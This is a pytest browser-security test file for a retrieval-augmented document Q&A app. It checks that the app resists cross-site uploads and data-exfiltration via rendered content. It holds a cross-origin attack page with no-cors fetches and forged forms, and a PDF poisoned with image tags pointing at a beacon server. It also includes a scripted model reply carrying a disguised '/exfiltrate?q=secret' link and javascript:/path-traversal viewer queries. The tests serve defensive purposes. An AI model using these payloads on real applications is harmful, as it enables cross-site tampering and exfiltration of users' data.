"""Attacks that need a real browser (headless Chromium): a page on another origin tries to write into the
app, and a poisoned document (and a model talked into it) tries to make the page fetch a URL. A beacon
server on 127.0.0.1 records every request it gets: it must get none, and nothing may be stored."""

import base64
import json

import httpx
import pytest
from conftest import ARTIFACTS, ROOT
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse, Response
from pdfgen import make_pdf
from webapp import free_port, running_app, serve_in_thread

SAMPLE = ROOT / "samples" / "acme-q3-2023.pdf"
pytestmark = [pytest.mark.browser, pytest.mark.slow]


class Beacon:
    """Another origin (another port of 127.0.0.1): serves an attack page at /attack and records every
    other request, which is what a page tricked into loading or sending something would make."""

    def __init__(self) -> None:
        self.port = free_port()
        self.hits: list[str] = []
        self.attack_html = ""
        site = FastAPI()

        @site.get("/attack", response_class=HTMLResponse)
        def attack() -> str:
            return self.attack_html

        @site.api_route("/{path:path}", methods=["GET", "POST", "PUT", "DELETE", "OPTIONS"])
        async def record(path: str, request: Request) -> Response:
            if path != "favicon.ico":
                self.hits.append(f"{request.method} /{path}")
            return Response(b"", media_type="image/png")

        self.server = serve_in_thread(site, self.port)

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture(scope="module")
def beacon():
    beacon = Beacon()
    yield beacon
    beacon.server.should_exit = True


@pytest.fixture(scope="module")
def app(tmp_path_factory, beacon):
    """The app with a scripted model whose reply carries a markdown image, raw HTML and a disguised link,
    all pointing at the beacon; answers are extractive unless the page picks another strategy."""
    root = tmp_path_factory.mktemp("security")
    reply = (
        f"Revenue was 77 million dollars [1]. ![chart](http://127.0.0.1:{beacon.port}/model-image.png) "
        f'<img src="http://127.0.0.1:{beacon.port}/model-html.png"> '
        f"[the audit report](http://127.0.0.1:{beacon.port}/exfiltrate?q=secret)"
    )
    script = root / "replies.json"
    script.write_text(json.dumps([reply]), encoding="utf-8")
    args = ("--llm-backend", "scripted", "--llm-script", str(script), "--strategy", "extractive")
    with running_app(root / "data", *args) as (url, _, log):
        yield url, root / "data", log


def stored_names(url: str) -> list[str]:
    """Every document of every collection."""
    names = []
    for collection in httpx.get(url + "api/health").json()["collections"]:
        names += [d["name"] for d in httpx.get(url + "api/documents", params={"collection": collection}).json()]
    return names


ATTACK = """<!doctype html><html><body><h1>Cute cats</h1>
<iframe name="sink" style="display:none"></iframe>
<form id="plain" method="post" target="sink" enctype="text/plain" action="{app}gradio_api/queue/join">
<input name='{{"fn_index":0,"data":[],"session_hash":"x","pad":"' value='"}}'></form>
<form id="urlenc" method="post" target="sink" action="{app}api/documents"><input name="files" value="x"></form>
<script>
const pdf = Uint8Array.from(atob("{pdf}"), c => c.charCodeAt(0));
function form(name) {{
  const data = new FormData();
  data.append("files", new Blob([pdf], {{type: "application/pdf"}}), name);
  return data;
}}
async function attack() {{
  const blind = {{method: "POST", mode: "no-cors", credentials: "include"}};
  await fetch("{app}api/documents", {{...blind, body: form("planted.pdf")}}).catch(() => null);
  await fetch("{app}api/documents?collection=planted", {{...blind, body: form("planted2.pdf")}}).catch(() => null);
  await fetch("{app}gradio_api/upload", {{...blind, body: form("planted3.pdf")}}).catch(() => null);
  await fetch("{app}api/ask", {{...blind, headers: {{"content-type": "text/plain"}},
                                body: JSON.stringify({{question: "margin?"}})}}).catch(() => null);
  document.getElementById("plain").submit();
  await new Promise(r => setTimeout(r, 500));
  document.getElementById("urlenc").submit();
  await new Promise(r => setTimeout(r, 500));
  // a page that is not allowed cannot read what the app answers either
  window.readable = await fetch("{app}api/documents").then(r => r.status, () => "refused");
  window.done = true;
}}
attack();
</script></body></html>"""


def test_a_page_on_another_origin_cannot_upload_or_post_to_the_app(browser, beacon, app):
    url, data, log = app
    beacon.attack_html = ATTACK.format(app=url, pdf=base64.b64encode(SAMPLE.read_bytes()).decode())
    page = browser.new_page()
    page.goto(beacon.origin + "/attack")
    page.wait_for_function("window.done === true", timeout=60_000)
    assert page.evaluate("window.readable") == "refused"
    assert stored_names(url) == [], "a cross-site page stored a document"
    assert not list((data / "uploads").glob("**/planted*")), "a cross-site upload was written to disk"
    assert beacon.hits == [], beacon.hits
    assert log.read_text().count("cross-site request refused") >= 5


def poisoned_pdf(port: int) -> bytes:
    # one sentence over three lines (a line longer than the page would be cut off by the text extractor)
    sentence = (
        "The quarterly revenue of Zeta Corp was 77 million dollars\n"
        f"<img src=http://127.0.0.1:{port}/beacon.png> and\n![b](http://127.0.0.1:{port}/b.png) said the auditors"
    )
    return make_pdf([f"Zeta Corp annual report\n\n{sentence}.\n\nThe office moved to a larger building."])


def ask(page, question: str) -> None:
    page.locator("#rag-question textarea").fill(question)
    page.locator("#rag-ask").click()
    page.wait_for_selector("#rag-note:has-text('strategy')", timeout=120_000)
    page.wait_for_timeout(2000)  # time for anything the answer would make the browser fetch


def test_document_text_in_an_extractive_answer_is_shown_as_text(browser, beacon, app):
    url, _, _ = app
    files = [("files", ("zeta.pdf", poisoned_pdf(beacon.port)))]
    assert httpx.post(url + "api/documents", files=files, timeout=120).status_code == 200
    beacon.hits.clear()
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(url)
    page.wait_for_selector("#rag-status:has-text('Collection')", timeout=60_000)
    ask(page, "What was the quarterly revenue of Zeta Corp?")
    chat = page.locator("#rag-chat").inner_text()
    assert f"<img src=http://127.0.0.1:{beacon.port}/beacon.png>" in chat, chat
    assert f"![b](http://127.0.0.1:{beacon.port}/b.png)" in chat
    assert page.locator("#rag-chat img").count() == 0 and page.locator("#rag-sources img").count() == 0
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "security-extractive.png"), full_page=True)
    assert beacon.hits == [], f"the page fetched {beacon.hits}"


def test_model_output_loads_no_image_and_shows_link_targets(browser, beacon, app):
    url, _, _ = app
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(url)
    page.wait_for_selector("#rag-status:has-text('Collection')", timeout=60_000)
    page.get_by_text("Options / 选项").click()
    page.get_by_label("Strategy / 策略").click()
    page.get_by_role("option", name="stuff", exact=True).click()
    beacon.hits.clear()
    ask(page, "What was the quarterly revenue of Zeta Corp?")
    chat = page.locator("#rag-chat")
    assert "77 million dollars" in chat.inner_text()
    assert chat.locator("img").count() == 0, chat.inner_html()
    assert '<img src="http://127.0.0.1' in chat.inner_text(), "raw HTML from the model is shown as text"
    link = chat.locator("a", has_text="the audit report")
    assert link.count() == 1 and f"(http://127.0.0.1:{beacon.port}/exfiltrate?q=secret)" in chat.inner_text()
    image = chat.locator("a", has_text="[image: chart]")
    assert f"http://127.0.0.1:{beacon.port}/model-image.png" in image.inner_text()
    page.screenshot(path=str(ARTIFACTS / "security-model.png"), full_page=True)
    assert beacon.hits == [], f"the page fetched {beacon.hits}"


VIEWER_ATTACKS = ["file=javascript:window.pwned=1", "doc=javascript:window.pwned=1", "doc=..", "doc=../../evil"]


@pytest.mark.parametrize("query", VIEWER_ATTACKS)
def test_the_viewer_opens_nothing_but_the_apps_own_file_route(browser, beacon, app, query):
    """A crafted viewer link can neither run script in the app's origin (its "open the file" link, opened in
    the same tab) nor make the viewer load a file from elsewhere."""
    url, _, _ = app
    page = browser.new_page()
    page.goto(f"{url}viewer/?{query}&page=1")
    page.wait_for_timeout(1500)
    link = page.locator("#download")
    if link.count():
        href = link.evaluate("a => a.href")
        assert href.startswith(url + "api/documents/") and href.split("#")[0].endswith("/file"), href
        link.evaluate("a => a.removeAttribute('target')")
        link.click()
        page.wait_for_timeout(1000)
    assert page.evaluate("window.pwned") is None, "the viewer's link ran script in the app's origin"


def test_the_viewer_loads_no_foreign_file_and_shows_stored_ones(browser, beacon, app):
    url, _, _ = app
    files = [("files", ("viewer.pdf", SAMPLE.read_bytes()))]
    assert httpx.post(url + "api/documents", files=files, timeout=120).status_code == 200
    beacon.hits.clear()
    page = browser.new_page()
    for query in (f"file=http://127.0.0.1:{beacon.port}/evil.pdf", f"doc=http://127.0.0.1:{beacon.port}/evil.pdf"):
        page.goto(f"{url}viewer/?{query}&page=1")
        page.wait_for_timeout(1500)
    assert beacon.hits == [], f"the viewer fetched {beacon.hits}"
    page.goto(f"{url}viewer/?doc=viewer.pdf&page=2&q=gross%20margin")
    page.locator("body[data-text-layer='ready']").wait_for(timeout=120_000)
    assert page.locator("body").get_attribute("data-pages") == "3"
    assert page.locator("#download").evaluate("a => a.href") == url + "api/documents/viewer.pdf/file#page=2"
